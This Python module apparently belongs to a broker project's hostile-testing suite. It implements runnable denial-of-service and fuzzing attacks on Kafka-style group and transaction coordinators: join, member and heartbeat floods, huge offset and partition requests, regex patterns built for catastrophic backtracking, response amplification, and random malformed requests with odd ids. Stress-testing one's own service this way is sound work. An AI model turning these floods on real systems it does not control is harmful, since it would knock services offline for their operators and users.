"""The attacks on coordinators of groups and transactions: `python coordinator_attacks.py NAME TARGET_JSON`, as those in
`broker_attacks`.
"""

from __future__ import annotations

import socket
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from typing import Any, Final

from msgspec.structs import replace

from metadata_log.serde import Message
from metadata_log.types import Uuid
from support.hostile.broker_attacks import BrokerAttack, BrokerAttacker, main, request
from support.hostile.frames import random_message
from transport.protocol.apis import ApiKey
from transport.protocol.broker_apis import ALL_APIS
from transport.protocol.broker_listener import AT_BROKERS
from transport.protocol.headers import decode_response
from transport.protocol.messages import (
    add_offsets_to_txn,
    add_partitions_to_txn,
    consumer_group_describe,
    consumer_group_heartbeat,
    delete_groups,
    describe_groups,
    describe_transactions,
    end_txn,
    find_coordinator,
    heartbeat,
    init_producer_id,
    join_group,
    leave_group,
    list_groups,
    list_transactions,
    offset_commit,
    offset_delete,
    offset_fetch,
    sync_group,
    txn_offset_commit,
    write_txn_markers,
)

SESSION_MS: Final = 1_800_000
"""The longest session that a broker allows by default."""
GROUP: Final = 0
TRANSACTION: Final = 1
MEMBER_ID_REQUIRED: Final = 79
APIS: Final = (
    *(ApiKey.OFFSET_COMMIT, ApiKey.OFFSET_FETCH, ApiKey.JOIN_GROUP, ApiKey.HEARTBEAT, ApiKey.LEAVE_GROUP),
    *(ApiKey.SYNC_GROUP, ApiKey.DESCRIBE_GROUPS, ApiKey.LIST_GROUPS, ApiKey.DELETE_GROUPS, ApiKey.OFFSET_DELETE),
    *(ApiKey.CONSUMER_GROUP_HEARTBEAT, ApiKey.CONSUMER_GROUP_DESCRIBE, ApiKey.INIT_PRODUCER_ID, ApiKey.END_TXN),
    *(ApiKey.ADD_PARTITIONS_TO_TXN, ApiKey.ADD_OFFSETS_TO_TXN, ApiKey.TXN_OFFSET_COMMIT, ApiKey.WRITE_TXN_MARKERS),
    *(ApiKey.DESCRIBE_TRANSACTIONS, ApiKey.LIST_TRANSACTIONS),
)
"""What coordinators answer."""
ODD_IDS: Final = ("", " ", "g", "t", "\0", "\ufeff", "\ud7ff\U0001f4a9", "../..", "x" * 32_000)


class Coordinators:
    """The brokers that coordinate, as a client finds them."""

    def __init__(self, attacker: BrokerAttacker) -> None:
        self._attacker = attacker
        self._ports: dict[int, int] = {}

    def port(self, kind: int) -> int:
        """The port of the coordinator of all groups, or of all transactional ids: each topic has one partition."""
        while kind not in self._ports:
            wanted = find_coordinator.FindCoordinatorRequest(key_type=kind, coordinator_keys=["any"])
            with self._attacker.connect() as connection:
                answer = self._attacker.ask(connection, request(wanted, 4))
            assert answer is not None
            found: Any = decode_response(ApiKey.FIND_COORDINATOR, 4, answer, apis=ALL_APIS)[1]
            (one,) = found.coordinators
            if one.error_code == 0:
                self._ports[kind] = one.port
            else:
                self._attacker.pause(0.1)
        return self._ports[kind]

    @contextmanager
    def connection(self, kind: int = GROUP) -> Iterator[socket.socket]:
        """A connection to the coordinator."""
        with self._attacker.undeterred(), self._attacker.connect(self.port(kind)) as connection:
            yield connection


def flood(
    attacker: BrokerAttacker, kind: int, frame: Callable[[int], bytes], *, most: int, stays: bool = False
) -> None:
    """Send so many frames, each another one: over one connection after the other, or each on its own, which is closed
    at once or `stays`.
    """
    coordinators, number = Coordinators(attacker), 0
    held: list[socket.socket] = []
    while (attacker.goes_on and number < most) or number < 3:
        with attacker.undeterred():
            connection = attacker.connect(coordinators.port(kind))
            held.append(connection)
            for _ in range(1 if stays else 100):
                connection.sendall(frame(number))
                number += 1
                attacker.did["frames"] += 1
            if not stays:
                connection.settimeout(1)
                with suppress(TimeoutError):
                    attacker.did["bytes received"] += len(connection.recv(1 << 20))
        if held and not (stays and len(held) < attacker.size(500)):
            held.pop(0).close()
    for one in held:
        one.close()


def join(group: str, member_id: str = "", data: bytes = b"", client: str = "c", version: int = 3) -> bytes:
    """A JoinGroup that waits as long as it may."""
    protocols = [join_group.JoinGroupRequestProtocol(f"p{at}", data) for at in range(1, -1, -1)]
    message = join_group.JoinGroupRequest(
        group_id=group,
        session_timeout_ms=SESSION_MS,
        rebalance_timeout_ms=SESSION_MS,
        member_id=member_id,
        protocol_type="consumer",
        protocols=protocols,
    )
    return request(message, version, client)


def group_floods(attacker: BrokerAttacker) -> None:
    """Groups without end, each of a member that has gone before it is answered."""
    flood(attacker, GROUP, lambda at: join(f"group-{at}"), most=attacker.size(50_000))


def member_floods(attacker: BrokerAttacker) -> None:
    """Members without end in one group."""
    flood(attacker, GROUP, lambda at: join("members"), most=attacker.size(20_000), stays=True)


def long_members(attacker: BrokerAttacker) -> None:
    """Members with a megabyte of protocols each, in groups of their own, of which the connections close."""
    data = bytes(attacker.size(1_000_000))
    flood(attacker, GROUP, lambda at: join(f"long-{at}", data=data), most=100_000, stays=True)


def given_ids(attacker: BrokerAttacker) -> None:
    """Member ids that nobody uses, with a client id of 30 KB in each."""
    client = "c" * attacker.size(30_000)
    flood(attacker, GROUP, lambda at: join(f"ids-{at // 1000}", client=client, version=9), most=100_000)


def offset_floods(attacker: BrokerAttacker) -> None:
    """Very many partitions, of topics that are there or not, with long metadata, in each request for offsets."""
    victim, count = attacker.target.victim, attacker.size(100_000)
    zero = Uuid.ZERO
    many = [offset_commit.OffsetCommitRequestPartition(at % 3, at, committed_metadata="m") for at in range(count)]
    long = [offset_commit.OffsetCommitRequestPartition(0, 1, committed_metadata="m" * 4096) for _ in range(count // 50)]
    strange = [
        offset_commit.OffsetCommitRequestTopic(f"t{at}", zero, [offset_commit.OffsetCommitRequestPartition(0, 1)])
        for at in range(count // 3)
    ]
    numbers = list(range(count))
    of_transaction = [txn_offset_commit.TxnOffsetCommitRequestPartition(0, 1) for _ in range(count)]
    frames = [
        request(offset_commit.OffsetCommitRequest("o", topics=[_committed(victim, many)]), 9),
        request(offset_commit.OffsetCommitRequest("o", topics=[_committed(victim, long)]), 9),
        request(offset_commit.OffsetCommitRequest("o", topics=strange), 9),
        request(
            offset_fetch.OffsetFetchRequest(
                groups=[
                    offset_fetch.OffsetFetchRequestGroup(
                        "o", topics=[offset_fetch.OffsetFetchRequestTopics(victim, zero, numbers)]
                    )
                ],
                require_stable=True,
            ),
            9,
        ),
        request(
            offset_delete.OffsetDeleteRequest(
                "o",
                [
                    offset_delete.OffsetDeleteRequestTopic(
                        victim, [offset_delete.OffsetDeleteRequestPartition(at) for at in numbers]
                    )
                ],
            ),
            0,
        ),
        request(
            txn_offset_commit.TxnOffsetCommitRequest(
                "t", "o", 1, 0, topics=[txn_offset_commit.TxnOffsetCommitRequestTopic(victim, zero, of_transaction)]
            ),
            3,
        ),
    ]
    _repeat(attacker, GROUP, frames)


def _committed(topic: str, parts: list[offset_commit.OffsetCommitRequestPartition]) -> Any:
    return offset_commit.OffsetCommitRequestTopic(topic, Uuid.ZERO, parts)


def _repeat(attacker: BrokerAttacker, kind: int, frames: list[bytes]) -> None:
    """Each of the frames once, and then any of them until the time is over."""
    coordinators, left = Coordinators(attacker), list(frames)
    while left or attacker.goes_on:
        frame = left.pop() if left else attacker.rng.choice(frames)
        with coordinators.connection(kind) as connection:
            attacker.ask(connection, frame)


def heartbeat_floods(attacker: BrokerAttacker) -> None:
    """Thousands of heartbeats in one go, of members that are not there, and of a group that is."""
    beats = b"".join(
        request(heartbeat.HeartbeatRequest(f"g{at % 7}", at - 3, f"m{at % 11}"), 4)
        for at in range(attacker.size(10_000))
    )
    coordinators = Coordinators(attacker)
    with coordinators.connection() as connection:
        attacker.ask(connection, join("g1"))
    flood(attacker, GROUP, lambda at: beats, most=attacker.size(200))


def _beat(member_id: str, **fields: Any) -> bytes:
    message = consumer_group_heartbeat.ConsumerGroupHeartbeatRequest(
        group_id=fields.pop("group", "k"),
        member_id=member_id,
        rebalance_timeout_ms=SESSION_MS,
        topic_partitions=[],
        **fields,
    )
    return request(message, 1)


def consumer_floods(attacker: BrokerAttacker) -> None:
    """Members of KIP-848 that want ten thousand topics, or all that match expressions which take long."""
    names = [f"{at}-" + "n" * 200 for at in range(attacker.size(10_000))]
    slow = ["(a*)*" * 800, "(x+x+)+y" * 500, ".{1,1000}" * 9, "(" * 4000, "\\p{L}*" * 600, "[^a]*a" * 600, ".*" * 2000]
    victim = attacker.target.victim

    def frame(at: int) -> bytes:
        member_id = str(Uuid(at.to_bytes(16, "big")))
        match at % 3:
            case 0:
                return _beat(member_id, group=f"k{at % 50}", subscribed_topic_names=names)
            case 1:
                return _beat(member_id, group="r", subscribed_topic_regex=slow[at // 3 % len(slow)] + str(at))
            case _:
                return _beat(member_id, group="v", subscribed_topic_names=[victim])

    flood(attacker, GROUP, frame, most=attacker.size(20_000))


def transaction_floods(attacker: BrokerAttacker) -> None:
    """Transactional ids without end, and with 30 KB each."""
    long = "i" * attacker.size(30_000)

    def frame(at: int) -> bytes:
        name = f"{at}-{long}" if at % 2 else f"id-{at}"
        return request(init_producer_id.InitProducerIdRequest(transactional_id=name, transaction_timeout_ms=900_000), 4)

    flood(attacker, TRANSACTION, frame, most=100_000)


def partition_floods(attacker: BrokerAttacker) -> None:
    """Transactions of a hundred thousand partitions, and markers for as many."""
    count = attacker.size(100_000)
    numbers, zero = list(range(count)), 0
    topics = [add_partitions_to_txn.AddPartitionsToTxnTopic(attacker.target.victim, numbers)]
    of_broker = [
        add_partitions_to_txn.AddPartitionsToTxnTransaction(f"t{at}", at, zero, False, topics[:1]) for at in range(3)
    ]
    marker = write_txn_markers.WritableTxnMarker(
        1,
        0,
        transaction_result=True,
        topics=[write_txn_markers.WritableTxnMarkerTopic(attacker.target.victim, numbers)],
    )
    frames: list[tuple[Message, int]] = [
        (
            add_partitions_to_txn.AddPartitionsToTxnRequest(
                v3_and_below_transactional_id="t",
                v3_and_below_producer_id=1,
                v3_and_below_producer_epoch=0,
                v3_and_below_topics=topics,
            ),
            3,
        ),
        (add_partitions_to_txn.AddPartitionsToTxnRequest(transactions=of_broker), 5),
        (write_txn_markers.WriteTxnMarkersRequest([marker]), 1),
        (end_txn.EndTxnRequest("t", 1, 0, committed=True), 5),
        (add_offsets_to_txn.AddOffsetsToTxnRequest("t", 1, 0, "g"), 4),
    ]
    _repeat(attacker, TRANSACTION, [request(*one) for one in frames])


def amplified_answers(attacker: BrokerAttacker) -> None:
    """Small requests about a group with long members, the same name very often, and patterns that take long."""
    data = bytes(attacker.size(900_000))
    coordinators = Coordinators(attacker)
    names = ["fat"] * attacker.size(100_000)
    with coordinators.connection() as fat:
        fat.sendall(join("fat", data=data))
        fat.settimeout(5)
        with suppress(TimeoutError):
            fat.recv(1)
    listing = list_transactions.ListTransactionsRequest(transactional_id_pattern="(.*a){200}")
    frames: list[tuple[Message, int]] = [
        (describe_groups.DescribeGroupsRequest(names, include_authorized_operations=True), 5),
        (consumer_group_describe.ConsumerGroupDescribeRequest(names, include_authorized_operations=True), 1),
        (list_groups.ListGroupsRequest(["Stable"] * len(names), ["classic"] * len(names)), 5),
        (delete_groups.DeleteGroupsRequest(names), 2),
        (describe_transactions.DescribeTransactionsRequest(names), 0),
        (listing, 2),
        (leave_group.LeaveGroupRequest("fat", members=[leave_group.MemberIdentity("m")] * attacker.size(5000)), 5),
        (
            sync_group.SyncGroupRequest(
                "fat", 1, "m", assignments=[sync_group.SyncGroupRequestAssignment("m", data)] * 20
            ),
            3,
        ),
    ]
    _repeat(attacker, GROUP, [request(*one) for one in frames])


def odd_requests(attacker: BrokerAttacker) -> None:
    """Every API of coordinators in every version, with values at their limits, nulls, old epochs and odd ids."""
    rng, coordinators = attacker.rng, Coordinators(attacker)
    every = [(key, version) for key in APIS for version in _versions(key)]
    rng.shuffle(every)
    while every or attacker.goes_on:
        with coordinators.connection(rng.choice((GROUP, TRANSACTION))) as connection:
            connection.settimeout(0.05)
            for _ in range(5):
                key, version = every.pop() if every else rng.choice([(key, rng.choice(_versions(key))) for key in APIS])
                message = random_message(AT_BROKERS[key].request, version, rng)
                for name in ("group_id", "transactional_id", "member_id", "v3_and_below_transactional_id"):
                    if getattr(message, name, None) is not None and rng.random() < 0.8:
                        message = replace(message, **{name: rng.choice(ODD_IDS)})
                try:
                    frame = request(message, version)
                except Exception:  # the random message has a field that this version cannot carry
                    attacker.did["messages that cannot be encoded"] += 1
                    continue
                connection.sendall(frame)
                attacker.did["frames"] += 1
            with suppress(TimeoutError):
                connection.recv(1 << 16)


def _versions(key: int) -> range:
    versions = AT_BROKERS[key].versions
    return range(versions.lowest, versions.highest + 1)


COORDINATOR_ATTACKS: Final[dict[str, BrokerAttack]] = {
    one.__name__: one
    for one in (
        group_floods,
        member_floods,
        long_members,
        given_ids,
        offset_floods,
        heartbeat_floods,
        consumer_floods,
        transaction_floods,
        partition_floods,
        amplified_answers,
        odd_requests,
    )
}


if __name__ == "__main__":
    main(COORDINATOR_ATTACKS)
